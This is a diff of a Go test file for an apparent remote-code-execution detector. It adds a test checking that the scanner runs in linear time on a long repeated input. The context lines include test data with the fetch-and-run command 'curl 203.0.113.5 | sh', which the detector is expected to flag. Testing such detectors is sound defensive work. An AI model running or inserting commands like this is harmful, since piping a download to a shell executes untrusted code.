@@ -1,8 +1,10 @@
 package rce
 
 import (
+	"strings"
 	"testing"
 
+	"github.com/weirnode/weir/detect/evidence"
 	"github.com/weirnode/weir/point"
 )
 
@@ -142,4 +144,11 @@ func TestShells(t *testing.T) {
 	// Scripts from bare addresses.
 	f(point.Text, "#!/bin/sh\ncurl 203.0.113.5 | sh\n", true)
 	f(point.Text, "#!/bin/sh\ncurl https://get.example.com | sh\n", false)
+}
+
+// TestLeadIsLinear reads what stands in front of a command once, not from each of its separators.
+func TestLeadIsLinear(*testing.T) {
+	data := []byte(strings.Repeat("{ :;", 1<<18))
+	var best evidence.Tally
+	Scan(&point.Value{Data: data, Classes: point.Classify(data)}, &point.Tree{}, &best)
 }
